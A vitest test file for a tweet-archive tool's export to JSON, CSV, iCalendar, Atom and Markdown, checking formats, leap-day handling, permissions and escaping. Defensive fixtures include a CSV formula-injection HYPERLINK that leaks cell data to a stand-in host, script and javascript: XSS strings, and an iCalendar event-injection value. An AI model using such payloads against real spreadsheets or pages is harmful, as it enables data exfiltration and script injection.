// Every format of `memories export`, read back by programs that others wrote.

import { parse as parseCsv } from 'csv-parse/sync';
import { parseAtomFeed } from 'feedsmith';
import ICAL from 'ical.js';
import { mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, test } from 'vitest';
import { parse as parseYaml } from 'yaml';
import { exported, HOSTILE, homeToExport, tweetsFound, type TweetJson } from '../../support/exports.ts';
import { archiveWith, databaseOf, homeWith, runMain } from '../../support/main.ts';
import { snowflakeAt } from '../../support/tweets.ts';

let home: string;
let all: TweetJson[];

beforeAll(async () => {
  home = await homeToExport();
  all = await tweetsFound(home);
});

test('there is a tweet for each hostile text, and four more', () => {
  expect(all).toHaveLength(HOSTILE.length + 4);
});

describe('JSON', () => {
  test('has the tweets as search prints them', async () => {
    const { posts: tweets, timeZone } = JSON.parse(await exported(['--format', 'json'], { home })) as {
      posts: unknown;
      timeZone: unknown;
    };
    expect(timeZone).toBe('UTC');
    expect(tweets).toEqual(all);
  });

  test('is valid without a tweet', async () => {
    const text = await exported(['--format', 'json', 'nowhere'], { home });
    expect(JSON.parse(text)).toEqual({ timeZone: 'UTC', posts: [] });
  });

  test('in lines has one tweet per line', async () => {
    const lines = (await exported(['--format', 'jsonl'], { home })).trimEnd().split('\n');
    expect(lines.map((line) => JSON.parse(line) as unknown)).toEqual(all);
  });
});

describe('CSV', () => {
  const rows = async (): Promise<Record<string, string>[]> =>
    parseCsv<Record<string, string>>(await exported(['--format', 'csv'], { home }), { bom: true, columns: true });
  const undefused = (cell: string | undefined): string => (cell ?? '').replace(/^'/, '');
  // eslint-disable-next-line no-control-regex -- what a table leaves out
  const printable = (text: string): string => text.replace(/[\0-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]/g, '');

  test('has every tweet, and begins with a byte order mark', async () => {
    expect((await exported(['--format', 'csv'], { home })).charCodeAt(0)).toBe(0xfeff);
    const read = await rows();
    expect(read.map((row) => undefused(row['id']))).toEqual(all.map(({ id }) => id));
    expect(read.map((row) => undefused(row['text']))).toEqual(all.map(({ text }) => printable(text)));
    expect(read.map((row) => `${row['date'] ?? ''}T${row['time'] ?? ''}`)).toEqual(
      all.map(({ localTime }) => localTime.slice(0, 16)),
    );
    expect(read.map((row) => Number(row['likes']))).toEqual(all.map(({ likes }) => likes));
  });

  test('has no cell that a spreadsheet calculates, and ids as text', async () => {
    const read = await rows();
    for (const cell of read.flatMap((row) => Object.values(row))) expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
    expect(read.every(({ id = '' }) => /^'\d+$/.test(id))).toBe(true);
    expect(read.find(({ text = '' }) => text.includes('HYPERLINK'))?.['text']).toBe(
      '\'=HYPERLINK("http://example.org/?"&A1,"click")',
    );
    expect(read.find(({ text = '' }) => text.includes('already'))?.['text']).toBe("''quoted' already");
  });

  test('ends rows as in RFC 4180', async () => {
    expect(await exported(['--format', 'csv', 'leap'], { home })).toMatch(/^\uFEFFid,[^\r\n]+\r\n[^\r\n]+\r\n$/);
  });
});

describe('iCalendar', () => {
  const calendar = async (args: readonly string[] = []): Promise<{ text: string; events: ICAL.Event[] }> => {
    const text = await exported(['--format', 'ics', ...args], { home });
    const component = new ICAL.Component(ICAL.parse(text) as never);
    return { text, events: component.getAllSubcomponents('vevent').map((event) => new ICAL.Event(event)) };
  };
  const occurrences = (event: ICAL.Event, count: number): string[] => {
    const days = event.iterator();
    return Array.from({ length: count }, () => days.next().toString());
  };

  test('has an event for each day of the year that has memories', async () => {
    const { events } = await calendar();
    const days = new Set(all.map(({ localTime }) => localTime.slice(5, 10)));
    // The leap day is remembered on the last day of February: its first time is 28 February.
    expect(events.map(({ startDate }) => startDate.toString().slice(5, 10))).toEqual(
      [...days].sort().map((day) => (day === '02-29' ? '02-28' : day)),
    );
    expect(events.every(({ startDate }) => startDate.isDate)).toBe(true);
    expect(new Set(events.map(({ uid }) => uid)).size).toBe(events.length);
  });

  test('counts the memories of all years, from the year after the last of them on', async () => {
    const { events } = await calendar(['since:2019', 'day']);
    expect(events).toHaveLength(1);
    expect(events[0]?.summary).toBe('2 memories, 2019 to 2020');
    expect(events[0]?.description).toBe('2020: the same day, later\n2019: a November day\n\nmemories on 11-22');
    expect(events.flatMap((event) => occurrences(event, 3))).toEqual(['2021-11-22', '2022-11-22', '2023-11-22']);
  });

  test('has no event on a day before one of its memories', async () => {
    const { events } = await calendar();
    const lastYears = new Map<string, number>();
    for (const { localTime } of all) {
      const [year, day] = [Number(localTime.slice(0, 4)), localTime.slice(5, 10)];
      lastYears.set(day, Math.max(year, lastYears.get(day) ?? 0));
    }
    for (const event of events) {
      const day = /memories on (\d\d-\d\d)$/.exec(event.description)?.[1] ?? '';
      expect(event.startDate.year).toBe((lastYears.get(day) ?? 0) + 1);
    }
  });

  test('remembers 29 February on the 28th in common years', async () => {
    const { events } = await calendar(['leap']);
    expect(events.flatMap((event) => occurrences(event, 4))).toEqual([
      '2013-02-28',
      '2014-02-28',
      '2015-02-28',
      '2016-02-29',
    ]);
  });

  test('has lines of at most 75 octets, and no property that comes from a tweet', async () => {
    const { text, events } = await calendar();
    const lines = text.split('\r\n');
    expect(lines.at(-1)).toBe('');
    for (const line of lines) expect(Buffer.byteLength(line)).toBeLessThanOrEqual(75);
    expect(lines.some((line) => line.includes('\n'))).toBe(false);
    expect(events.filter(({ summary }) => summary.includes('mine'))).toEqual([]);
    expect(events.some(({ description }) => description.includes('END:VEVENT BEGIN:VEVENT SUMMARY:mine'))).toBe(true);
    expect(events.some(({ description }) => description.includes('one, "two" three; \\four\\n'))).toBe(true);
    expect(events.some(({ description }) => description.includes('👩🏽‍💻 👩🏽‍💻'))).toBe(true);
  });

  test('has the same ids each time', async () => {
    const ids = async (): Promise<string[]> => (await calendar()).events.map(({ uid }) => uid);
    expect(await ids()).toEqual(await ids());
  });
});

describe('Atom', () => {
  const feedAt = async (now: string, args: readonly string[] = []): Promise<ReturnType<typeof parseAtomFeed>> =>
    parseAtomFeed(await exported(['--format', 'atom', ...args], { home, now }));

  test('has an entry for each of the last days that has memories, the newest first', async () => {
    const { entries = [], title } = await feedAt('2026-11-25T09:00:00Z');
    expect(title).toBeTruthy();
    expect(entries.map(({ updated }) => updated)).toEqual(['2026-11-23T00:00:00Z', '2026-11-22T00:00:00Z']);
    expect(entries[1]?.content).toMatchObject({ type: 'html' });
    const html = JSON.stringify(entries[1]?.content);
    expect(html.indexOf('the same day, later')).toBeLessThan(html.indexOf('a November day'));
    expect(html).toContain('6 years ago');
  });

  test('has something to open for itself and for each entry: the profile, and the newest memory of the day', async () => {
    const { entries = [], links, authors } = await feedAt('2026-11-25T09:00:00Z');
    expect(links?.map(({ href }) => href)).toEqual([`https://x.com/${authors?.[0]?.name?.slice(1) ?? ''}`]);
    const addresses = entries.map((entry) => entry.links?.map(({ href, rel }) => [rel, href]));
    for (const [address, ...others] of addresses.map((list) => list ?? [])) {
      expect(address).toEqual(['alternate', expect.stringMatching(/^https:\/\/x\.com\/\w+\/status\/\d+$/)]);
      expect(others).toEqual([]);
    }
    const later = all.find(({ text }) => text === 'the same day, later');
    expect(addresses[1]?.[0]?.[1]).toBe(`https://x.com/${later?.account ?? ''}/status/${later?.id ?? ''}`);
  });

  test('keeps the ids of the feed and of its entries', async () => {
    const [one, later] = [await feedAt('2026-11-24T09:00:00Z'), await feedAt('2026-12-01T09:00:00Z')];
    expect(later.id).toBe(one.id);
    expect(later.entries?.map(({ id }) => id)).toEqual(one.entries?.map(({ id }) => id));
    expect(new Set(one.entries?.map(({ id }) => id)).size).toBe(2);
    expect((await feedAt('2026-12-01T09:00:00Z', ['day'])).id).not.toBe(one.id);
  });

  test('remembers only earlier years, and nothing after a month', async () => {
    expect((await feedAt('2019-11-25T09:00:00Z')).entries ?? []).toEqual([]);
    expect((await feedAt('2026-12-30T09:00:00Z')).entries ?? []).toEqual([]);
  });

  test.each([
    ['2026-03-01T09:00:00Z', '2026-02-28T00:00:00Z'],
    ['2028-03-01T09:00:00Z', '2028-02-29T00:00:00Z'],
  ])('at %s remembers the leap day on %s', async (now, day) => {
    expect((await feedAt(now, ['leap'])).entries?.map(({ updated }) => updated)).toEqual([day]);
  });

  test('keeps line breaks for readers that ignore styles', async () => {
    const own = await homeWith(await archiveWith([{ at: '2020-11-22T10:00:00Z', text: 'one\n\ntwo &lt;b&gt;' }]));
    const text = await exported(['--format', 'atom'], { home: own, now: '2026-11-22T09:00:00Z' });
    expect(JSON.stringify(parseAtomFeed(text).entries?.[0]?.content)).toContain('one<br>\\n<br>\\ntwo &#60;b&#62;');
  });

  test('remembers the 29ths on 28 February of a common year', async () => {
    const titles = async (now: string): Promise<(string | undefined)[]> =>
      ((await feedAt(now, ['leap'])).entries ?? []).map(({ title }) =>
        typeof title === 'string' ? title : title?.value,
      );
    expect(await titles('2027-03-02T09:00:00Z')).toEqual(['28 February: 1 memory']);
    expect(await titles('2028-03-02T09:00:00Z')).toEqual(['29 February: 1 memory']);
    expect(await titles('2027-02-27T09:00:00Z')).toEqual([]);
  });

  test('has hidden and circle tweets only when asked for, like a calendar', async () => {
    const own = await homeWith(
      await archiveWith([
        { at: '2020-11-22T10:00:00Z', text: 'open' },
        { at: '2020-11-22T11:00:00Z', text: 'secret' },
        { at: '2020-11-22T12:00:00Z', text: 'closed' },
      ]),
    );
    await runMain(['hide', '--word', 'secret'], { home: own });
    const { openDatabase } = await import('../../../src/library/database.ts');
    const db = openDatabase(databaseOf(own), { create: false });
    db?.exec("UPDATE tweets SET audience = 'circle' WHERE text = 'closed'");
    db?.close();
    for (const format of ['atom', 'ics']) {
      const text = async (...flags: string[]): Promise<string[]> =>
        (await exported(['--format', format, ...flags], { home: own, now: '2026-11-22T09:00:00Z' })).match(
          /\b(?:open|secret|closed)\b(?=&#60;\/p|\\n|\r)/g,
        ) ?? [];
      expect((await text()).sort(), format).toEqual(['open']);
      expect((await text('--hidden', '--circle')).sort(), format).toEqual(['closed', 'open', 'secret']);
    }
  });

  test('shows what tweets say as text', async () => {
    const { entries = [] } = await feedAt('2026-03-28T09:00:00Z');
    // And the leap day.
    expect(entries).toHaveLength(HOSTILE.length + 1);
    const html = JSON.stringify(entries);
    expect(html).not.toMatch(/<script|<b>|<!--|href=\\"javascript/);
    expect(html).toContain('&#60;script&#62;alert(1)&#60;/script&#62;');
    // eslint-disable-next-line no-control-regex -- what XML has no place for
    expect(await exported(['--format', 'atom'], { home })).not.toMatch(/[\0-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]/);
  });
});

describe('Markdown', () => {
  let folder: string;
  const note = (name: string): string => readFileSync(join(folder, name), 'utf8');

  beforeAll(async () => {
    folder = join(home, 'notes');
    await exported(['--format', 'markdown', '--out', folder], { home });
  });

  test('has a note for each month, with front matter', () => {
    const names = readdirSync(folder).filter((name) => name.endsWith('.md'));
    expect(names.sort()).toEqual([...new Set(all.map(({ localTime }) => `${localTime.slice(0, 7)}.md`))].sort());
    const [, yaml = ''] = note('2019-11.md').split(/^---$/m);
    expect(parseYaml(yaml)).toEqual({
      title: 'November 2019',
      aliases: ['November 2019'],
      month: '2019-11',
      accounts: ['wren_writes'],
      time_zone: 'UTC',
      tags: ['memories'],
    });
  });

  test('has a heading for each day and no other', () => {
    const headings = note('2015-03.md').match(/^#.*/gm) ?? [];
    expect(headings).toHaveLength(1 + HOSTILE.length);
    expect(headings.slice(0, 2)).toEqual(['# March 2015', '## Sunday, 1 March 2015']);
  });

  test('keeps what tweets say as text', () => {
    const text = note('2015-03.md');
    const parts = text
      .split('\n## ')
      .slice(1)
      .map((part) => part.split('\n\n').slice(2, -1).join('\n\n'));
    expect(parts[8]).toBe('\\---  \ntitle: mine  \n\\---');
    expect(parts[9]).toBe('\\# no heading  \n\\- no list  \n1\\. no number  \n\\> no quote  \nno code');
    expect(parts[10]).toBe('\\<script\\>alert(1)\\</script\\> \\<b\\>bold\\</b\\> \\&amp;');
    expect(parts[11]).toContain('\\*\\*bold\\*\\* \\_thin\\_ \\`code\\` \\[link\\](javascript:alert(1)) \\!\\[x\\](y)');
    expect(parts[11]).toContain(
      '\\[\\[wiki\\]\\] \\#tag \\=\\=mark\\=\\= \\%\\%gone\\%\\% \\$x\\$ a\\:\\: b \\~\\~s\\~\\~ \\^id',
    );
    // eslint-disable-next-line no-control-regex -- what must not reach a terminal
    expect(text).not.toMatch(/[\0-\x09\x0b-\x1f\x7f-\x9f\u202e]/);
  });

  test('makes no picture of a link after an exclamation mark', async () => {
    const link = {
      url: 'https://t.co/x',
      expanded_url: 'https://example.org/',
      display_url: 'example.org',
      indices: ['4', '18'],
    };
    const draft = { at: '2018-05-01T10:00:00Z', text: 'Wow!https://t.co/x', entities: { urls: [link] } };
    const own = await homeWith(await archiveWith([draft]));
    const to = join(own, 'notes');
    await exported(['--format', 'markdown', '--out', to], { home: own });
    expect(readFileSync(join(to, '2018-05.md'), 'utf8')).toContain(
      '\nWow\\![https://example.org/](<https://example.org/>)\n',
    );
  });

  test('has copies of the photos beside it, readable by their owner alone', async () => {
    const id = snowflakeAt('2018-05-01T10:00:00Z');
    const photo = {
      id_str: id,
      media_url_https: 'https://pbs.twimg.com/media/heron.jpg',
      url: 'https://t.co/x',
      expanded_url: `https://twitter.com/w/status/${id}/photo/1`,
      type: 'photo',
      indices: ['6', '20'],
      ext_alt_text: 'a [grey] heron',
    };
    const own = await homeWith(
      await archiveWith([
        { at: '2018-05-01T10:00:00Z', id, text: 'heron https://t.co/x', extended_entities: { media: [photo] } },
      ]),
    );
    const media = join(own, 'memories-media');
    mkdirSync(media, { recursive: true });
    writeFileSync(join(media, `${id}-heron.jpg`), 'a photo');
    const to = join(own, 'notes');
    const { code } = await runMain(['export', '--format', 'markdown', '--out', to], { home: own });
    expect(code).toBe(0);
    expect(readFileSync(join(to, '2018-05.md'), 'utf8')).toContain(`![a \\[grey\\] heron](<media/${id}-heron.jpg>)`);
    const copy = join(to, 'media', `${id}-heron.jpg`);
    expect(readFileSync(copy, 'utf8')).toBe('a photo');
    const modes = [to, join(to, 'media'), copy, join(to, '2018-05.md')].map((path) => statSync(path).mode & 0o777);
    expect(modes).toEqual([0o700, 0o700, 0o600, 0o600]);
  });

  test('shows photos marked sensitive only when asked to, and otherwise links to them', async () => {
    const id = snowflakeAt('2018-05-01T10:00:00Z');
    const media = [{ type: 'photo', media_url_https: 'https://pbs.twimg.com/media/x.jpg', ext_alt_text: 'a moth' }];
    const draft = {
      at: '2018-05-01T10:00:00Z',
      id,
      text: 'look',
      possibly_sensitive: true,
      extended_entities: { media },
    };
    const own = await homeWith(await archiveWith([draft]));
    const files = join(own, 'memories-media');
    mkdirSync(files, { recursive: true });
    writeFileSync(join(files, `${id}-x.jpg`), 'a photo');
    const noteIn = async (name: string, ...flags: string[]): Promise<string> => {
      const to = join(own, name);
      await exported(['--format', 'markdown', '--out', to, ...flags], { home: own });
      return readFileSync(join(to, '2018-05.md'), 'utf8');
    };
    expect(await noteIn('covered')).toContain(`\n[Sensitive photo: a moth](<media/${id}-x.jpg>)\n`);
    expect(await noteIn('shown', '--sensitive')).toContain(`\n![a moth](<media/${id}-x.jpg>)\n`);
  });

  test('needs a folder', async () => {
    const { code, stderr } = await runMain(['export', '--format', 'markdown'], { home });
    expect({ code, stderr }).toMatchObject({ code: 2, stderr: expect.stringContaining('--out <folder>') as string });
  });
});
